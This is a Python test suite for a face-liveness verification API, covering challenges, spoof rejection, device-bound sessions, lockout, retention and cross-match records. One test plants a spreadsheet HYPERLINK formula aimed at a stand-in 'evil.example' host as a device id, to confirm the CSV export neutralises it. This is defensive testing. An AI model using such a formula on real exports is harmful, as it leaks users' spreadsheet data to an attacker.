"""Liveness over HTTP: a challenge, the phone's frames, the verified session, the record a
supervisor reviews, and every refusal (bad input, replayed or expired challenges, lockout)
answered with problem+json and nothing changed."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from functools import cache
from itertools import pairwise
from typing import Any

import cv2
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from api.services import Services
from evaluation.identity import face_checks
from evaluation.kernel.audit import Caller
from evaluation.registry.staff import Role, hash_token
from face import synthetic as videos
from face.engine import FaceEngine
from models.clock import FrozenClock
from models.tables import (
    AuditEntry,
    FaceChallenge,
    FaceVerification,
    ScanSession,
    VerifiedSession,
)
from tests.api.helpers import assert_problem
from tests.api.test_projects_api import project_payload
from tests.face.corpus import encode, engine, portraits
from tests.factories import CenterWithStaff, expert_payload

pytestmark = pytest.mark.slow

PERSON = "players-6"
OTHER = "gdp-2"
DEVICE = {"id": "phone-7f3a9c21", "model": "Pixel 7", "os": "Android 14", "browser": "Chrome"}


@cache
def _scene(name: str) -> videos.Scene:
    return videos.make_scene(engine(), portraits()[name])


@cache
def genuine_video(name: str, actions: tuple[str, ...]) -> videos.Video:
    return videos.genuine(_scene(name), list(actions), seed=len(actions))


@cache
def still_video(name: str) -> videos.Video:
    video = videos.still_photo(_scene(name), ["turn_left", "blink"])
    return videos.Video(video.frames[:10], video.timestamps_ms[:10], [300, 700])


@pytest.fixture
def operator(center: CenterWithStaff) -> dict[str, str]:
    return center.headers(Role.OPERATOR)


def _enrolled(client: TestClient, operator: dict[str, str], name: str) -> str:
    expert = client.post("/api/v1/experts", json=expert_payload(), headers=operator).json()
    photo = (f"{name}.jpg", encode(portraits()[name]), "image/jpeg")
    enrolled = client.put(
        f"/api/v1/experts/{expert['id']}/face",
        files={"photos": photo},
        data={"consent": "true"},
        headers=operator,
    )
    assert enrolled.status_code == 201, enrolled.text
    return str(expert["id"])


@pytest.fixture
def expert_id(client: TestClient, operator: dict[str, str]) -> str:
    return _enrolled(client, operator, PERSON)


def challenge(client: TestClient, operator: dict[str, str], *expert_ids: str) -> dict[str, Any]:
    response = client.post(
        "/api/v1/face/challenges", json={"expert_ids": list(expert_ids)}, headers=operator
    )
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def submit(
    client: TestClient,
    issued: dict[str, Any],
    video: videos.Video,
    *,
    nonce: str | None = None,
    device: dict[str, str] = DEVICE,
    **overrides: Any,
) -> Any:
    prompts = video.prompts_ms
    if len(prompts) != len(issued["actions"]):  # a photo "answers" whatever was asked
        prompts = [300 + 250 * index for index in range(len(issued["actions"]))]
    data = {
        "nonce": issued["nonce"] if nonce is None else nonce,
        "timestamps_ms": json.dumps(video.timestamps_ms),
        "prompts_ms": json.dumps(prompts),
        "device": json.dumps(device),
        **overrides,
    }
    files = [("frames", (f"{i}.jpg", frame, "image/jpeg")) for i, frame in enumerate(video.frames)]
    return client.post(
        issued["submit_url"],
        data=data,
        files=files,
        headers={"User-Agent": "Mozilla/5.0 (Linux; Android 14; Pixel 7)"},
    )


def _count(db: Session, model: type) -> int:
    db.expire_all()
    return int(db.execute(select(func.count()).select_from(model)).scalar_one())


def _actions(db: Session) -> list[str]:
    db.expire_all()
    return list(db.execute(select(AuditEntry.action).order_by(AuditEntry.seq)).scalars())


def test_challenge_shape(client: TestClient, operator: dict[str, str], expert_id: str) -> None:
    seen = set()
    for _ in range(12):
        issued = challenge(client, operator, expert_id)
        actions = issued["actions"]
        assert 2 <= len(actions) <= 3
        assert all(a != b for a, b in pairwise(actions))
        assert {"turn_left", "turn_right", "nod"} & set(actions)
        seen.add(tuple(actions))
        assert issued["mode"] == "1:1" and issued["expert_ids"] == [expert_id]
        assert len(issued["nonce"]) >= 40
        lifetime = _seconds(issued["expires_at"]) - _seconds(issued["issued_at"])
        assert 0 < lifetime <= 60
        capture = issued["capture"]
        assert capture["fps"] == 8 and capture["max_width"] == 640
        assert capture["min_frames"] <= capture["frame_count"] <= capture["max_frames"]
    assert len(seen) > 3  # drawn at random, not a fixed script


def _seconds(stamp: str) -> float:
    from datetime import datetime

    return datetime.fromisoformat(stamp).timestamp()


def test_genuine_frames_pass_and_grant_a_session_bound_to_the_device(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    center: CenterWithStaff,
    clock: FrozenClock,
    db: Session,
) -> None:
    issued = challenge(client, operator, expert_id)
    video = genuine_video(PERSON, tuple(issued["actions"]))
    clock.advance(timedelta(seconds=8))  # the phone films, then uploads
    response = submit(client, issued, video)
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["passed"] is True and body["reasons"] == [], body["reasons"]
    record = body["verification"]
    assert record["expert_id"] == expert_id and record["device_id"] == DEVICE["id"]
    assert record["user_agent"].startswith("Mozilla/5.0") and record["client_ip"]
    assert len(record["frame_hashes"]) == len(video.frames) and not record["frames_retained"]
    assert {c["check"] for c in record["checks"]} >= {"actions", "depth", "identity", "replay"}

    token = body["session"]["token"]
    assert token.startswith("evf_")
    stored = db.execute(select(VerifiedSession)).scalar_one()
    assert token not in stored.token_hash and stored.expert_id == expert_id

    def session(device: str | None) -> Any:
        headers = {"Authorization": f"Bearer {token}"}
        if device:
            headers["X-Device-Id"] = device
        return client.get("/api/v1/face/session", headers=headers)

    current = session(DEVICE["id"])
    assert current.status_code == 200 and current.json()["expert_id"] == expert_id
    assert "token" not in current.json() or current.json()["token"] is None
    assert_problem(session("another-phone-1"), 401, "face-session-invalid")
    assert_problem(session(None), 401, "face-session-invalid")
    clock.advance(timedelta(minutes=11))
    assert_problem(session(DEVICE["id"]), 401, "face-session-invalid")

    supervisor = center.headers(Role.SUPERVISOR)
    listed = client.get("/api/v1/face/verifications", headers=supervisor).json()["items"]
    assert [item["id"] for item in listed] == [record["id"]]
    full = client.get(f"/api/v1/face/verifications/{record['id']}", headers=supervisor).json()
    assert full["checks"] == record["checks"]
    assert _actions(db)[-2:] == ["face.challenge_issued", "face.verification_passed"]


def test_a_photo_fails_and_the_answer_says_why(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    response = submit(client, issued, still_video(PERSON))
    assert response.status_code == 201
    body = response.json()
    assert body["passed"] is False and body["session"] is None
    assert "planar-motion" in body["reasons"]
    assert "疑似照片或屏幕翻拍" in body["messages_zh"]
    assert body["attempts_remaining"] == 4 and body["locked"] is False


def test_a_formula_in_a_device_id_is_exported_as_text(
    client: TestClient, center: CenterWithStaff, operator: dict[str, str], expert_id: str
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    issued = challenge(client, operator, expert_id)
    submitted = submit(client, issued, still_video(PERSON), device={"id": formula})
    assert submitted.status_code == 201, submitted.text
    exported = client.get(
        "/api/v1/face/verifications",
        params={"format": "csv"},
        headers=center.headers(Role.SUPERVISOR),
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["device_id"] for row in rows] == ["'" + formula]


def test_reused_and_expired_challenges_are_refused_and_logged(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock, db: Session
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    assert submit(client, issued, still_video(PERSON)).status_code == 201
    again = submit(client, issued, still_video(PERSON))
    assert_problem(again, 409, "challenge-used")
    assert _count(db, FaceVerification) == 1
    assert _actions(db)[-1] == "face.submission_refused"

    late = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=61))
    assert_problem(submit(client, late, still_video(PERSON)), 410, "challenge-expired")
    assert _actions(db)[-1] == "face.submission_refused"
    assert _count(db, FaceVerification) == 1
    # Each refused request is logged once, not once per transaction that saw it.
    assert _actions(db).count("face.submission_refused") == 2

    unknown = dict(late, submit_url="/api/v1/face/challenges/nope/frames")
    assert_problem(submit(client, unknown, still_video(PERSON)), 404, "challenge-not-found")
    fresh = challenge(client, operator, expert_id)
    wrong = submit(client, fresh, still_video(PERSON), nonce="not-the-nonce")
    assert_problem(wrong, 404, "challenge-not-found")


@pytest.mark.parametrize(
    ("change", "status", "code"),
    [
        ({"nonce": ""}, 422, "upload-missing"),
        ({"timestamps_ms": "[1, 2]"}, 422, "frames-invalid"),
        ({"timestamps_ms": "not json"}, 422, "frames-invalid"),
        ({"prompts_ms": "[100]"}, 422, "frames-invalid"),
        ({"device": "{}"}, 422, "frames-invalid"),
        ({"frames": "few"}, 422, "frames-invalid"),
        ({"frames": "many"}, 422, "frames-invalid"),  # over the cap, and far over it
        ({"frames": "flood"}, 422, "frames-invalid"),
        ({"frames": "not-an-image"}, 422, "image-unusable"),
        ({"frames": "too-wide"}, 422, "frames-invalid"),
        ({"frames": "huge"}, 422, "image-unusable"),
        ({"frames": "gif"}, 415, "image-type-unsupported"),
    ],
)
def test_bad_submissions_change_nothing(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    clock: FrozenClock,
    db: Session,
    change: dict[str, str],
    status: int,
    code: str,
) -> None:
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    video = still_video(PERSON)
    frames = list(video.frames)
    kind = change.pop("frames", None)
    if kind == "few":
        frames = frames[:3]
    elif kind in ("many", "flood"):  # a 3-action challenge filmed at 10 fps, or worse
        frames = (frames * 40)[: 49 if kind == "many" else 400]
    elif kind == "not-an-image":
        frames[4] = b"%PDF-1.7 not a frame"
    elif kind == "too-wide":
        frames[2] = encode(cv2.resize(_scene(PERSON).frame, (800, 400)))
    elif kind == "huge":
        frames[2] = encode(cv2.resize(_scene(PERSON).frame, (1280, 960)))
    elif kind == "gif":
        from io import BytesIO

        from PIL import Image

        out = BytesIO()
        Image.new("RGB", (64, 64)).save(out, format="GIF")
        frames[0] = out.getvalue()
    times = video.timestamps_ms[: len(frames)]
    before = (_count(db, FaceVerification), len(_actions(db)))
    response = submit(client, issued, videos.Video(frames, times, video.prompts_ms), **change)
    assert_problem(response, status, code)
    assert (_count(db, FaceVerification), len(_actions(db))) == before
    # The challenge was not used up: the same nonce still answers it.
    assert submit(client, issued, video).status_code == 201


def test_not_multipart_is_refused(
    client: TestClient, operator: dict[str, str], expert_id: str
) -> None:
    issued = challenge(client, operator, expert_id)
    assert_problem(
        client.post(issued["submit_url"], json={"nonce": issued["nonce"]}),
        415,
        "unsupported-media-type",
    )


def test_repeated_failures_lock_until_an_operator_unlocks(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    clock: FrozenClock,
    center: CenterWithStaff,
    db: Session,
) -> None:
    for attempt in range(5):
        issued = challenge(client, operator, expert_id)
        clock.advance(timedelta(seconds=5))
        body = submit(client, issued, still_video(PERSON)).json()
        assert body["passed"] is False
        assert body["attempts_remaining"] == 4 - attempt
    assert body["locked"] is True
    assert "face.check_locked" in _actions(db)
    refused = client.post(
        "/api/v1/face/challenges", json={"expert_ids": [expert_id]}, headers=operator
    )
    assert_problem(refused, 423, "face-check-locked")
    lock = client.get(
        f"/api/v1/experts/{expert_id}/face/lockout", headers=center.headers(Role.SUPERVISOR)
    )
    assert lock.status_code == 200 and lock.json()["failures"] == 5

    unlock = client.post(
        f"/api/v1/experts/{expert_id}/face/unlock",
        json={"reason": "到中心现场核验身份证后解锁"},
        headers=operator,
    )
    assert unlock.status_code == 200 and unlock.json()["unlocked_by"].startswith("staff:")
    assert _actions(db)[-1] == "face.check_unlocked"
    # Unlocking resets the count: a new failure leaves four more tries.
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=5))
    assert submit(client, issued, still_video(PERSON)).json()["attempts_remaining"] == 4
    assert_problem(
        client.get(f"/api/v1/experts/{expert_id}/face/lockout", headers=operator),
        404,
        "not-found",
    )


def test_one_of_several_experts_is_identified(
    client: TestClient, operator: dict[str, str], expert_id: str, clock: FrozenClock
) -> None:
    other = _enrolled(client, operator, OTHER)
    issued = challenge(client, operator, other, expert_id)
    assert issued["mode"] == "1:few"
    clock.advance(timedelta(seconds=8))
    body = submit(client, issued, genuine_video(PERSON, tuple(issued["actions"]))).json()
    assert body["passed"] is True, body["reasons"]
    assert body["verification"]["expert_id"] == expert_id
    assert body["session"]["expert_id"] == expert_id


def test_challenges_need_an_active_enrolled_expert_of_this_center(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    other_center: CenterWithStaff,
    db: Session,
) -> None:
    plain = client.post("/api/v1/experts", json=expert_payload(), headers=operator).json()["id"]
    assert_problem(
        client.post("/api/v1/face/challenges", json={"expert_ids": [plain]}, headers=operator),
        409,
        "face-not-enrolled",
    )
    foreign = client.post(
        "/api/v1/face/challenges",
        json={"expert_ids": [expert_id]},
        headers=other_center.headers(Role.OPERATOR),
    )
    assert_problem(foreign, 404, "not-found")
    suspend = client.post(
        f"/api/v1/experts/{expert_id}/suspend", json={"reason": "回避"}, headers=operator
    )
    assert suspend.status_code == 200
    assert_problem(
        client.post("/api/v1/face/challenges", json={"expert_ids": [expert_id]}, headers=operator),
        409,
        "expert-not-active",
    )
    assert_problem(
        client.post("/api/v1/face/challenges", json={"expert_ids": []}, headers=operator),
        422,
        "validation-failed",
    )
    assert _count(db, FaceChallenge) == 0


class TestRetention:
    """With the retention setting on, the frames are kept as evidence, encrypted."""

    @pytest.fixture
    def settings(self, tmp_path: Any, database_url: str) -> Any:
        from models.settings import Settings

        return Settings(
            data_dir=tmp_path,
            database_url=database_url,
            audit_checkpoint_every_s=0,
            liveness_retain_frames=True,
        )

    def test_frames_are_kept_encrypted(
        self,
        client: TestClient,
        operator: dict[str, str],
        expert_id: str,
        clock: FrozenClock,
        db: Session,
        services: Any,
    ) -> None:
        from models.tables import VerificationFrame

        issued = challenge(client, operator, expert_id)
        clock.advance(timedelta(seconds=5))
        video = still_video(PERSON)
        body = submit(client, issued, video).json()
        assert body["verification"]["frames_retained"] is True
        db.expire_all()
        kept = db.execute(select(VerificationFrame).order_by(VerificationFrame.seq)).scalars().all()
        assert len(kept) == len(video.frames)
        verification_id = body["verification"]["id"]
        for row, frame in zip(kept, video.frames, strict=True):
            assert frame not in row.ciphertext
            context = f"face_verifications/{verification_id}/frames/{row.seq}"
            assert services.cipher.decrypt_bytes(row.ciphertext, context) == frame


def test_a_scan_challenge_answer_names_no_candidates(
    client: TestClient,
    operator: dict[str, str],
    expert_id: str,
    center: CenterWithStaff,
    db: Session,
    clock: FrozenClock,
    services: Services,
    face_engine: FaceEngine,
) -> None:
    """A phone that scanned the room code must not learn the sealed committee from the
    answer to its face check, passed or not."""
    other = _enrolled(client, operator, OTHER)
    project = client.post(
        "/api/v1/projects", json=project_payload(code="SCAN-ANSWER"), headers=operator
    ).json()
    scan = ScanSession(
        center_id=center.id,
        project_id=project["id"],
        kind="room",
        token_hash=hash_token("evs_test"),
        device_id=DEVICE["id"],
        created_at=clock.now(),
        expires_at=clock.now() + timedelta(minutes=5),
    )
    db.add(scan)
    db.flush()
    issued = face_checks.issue_challenge(
        db,
        Caller(center.id, f"scan:{scan.id}"),
        clock,
        services.cipher,
        face_engine,
        services.liveness,
        [expert_id, other],
        scan_session_id=scan.id,
    )
    db.commit()
    answer = submit(
        client,
        {
            "nonce": issued.nonce,
            "actions": issued.challenge.actions,
            "submit_url": f"/api/v1/face/challenges/{issued.challenge.id}/frames",
        },
        still_video(PERSON),
    )
    assert answer.status_code == 201, answer.text
    assert answer.json()["passed"] is False and answer.json()["verification"] is None
    assert expert_id not in answer.text and other not in answer.text


def test_a_face_that_looks_like_another_enrolled_expert_is_recorded(
    client: TestClient, operator: dict[str, str], expert_id: str, db: Session, clock: FrozenClock
) -> None:
    """Someone else's face on the claimed expert's check: refused, and the record names the
    enrolled person it matched better (the face-matches-other anomaly reads this)."""
    other_id = _enrolled(client, operator, OTHER)
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=8))
    answered = submit(client, issued, genuine_video(OTHER, tuple(issued["actions"])))
    body = answered.json()
    assert body["passed"] is False and "face-mismatch" in body["reasons"]
    cross = next(c for c in body["verification"]["checks"] if c["check"] == "cross-match")
    assert cross["values"]["other_expert_id"] == other_id
    assert cross["values"]["other_similarity"] > cross["values"]["claimed_similarity"]

    # The right person on their own check: no cross-match in the record.
    issued = challenge(client, operator, expert_id)
    clock.advance(timedelta(seconds=8))
    own = submit(client, issued, genuine_video(PERSON, tuple(issued["actions"]))).json()
    assert own["passed"] and all(c["check"] != "cross-match" for c in own["verification"]["checks"])
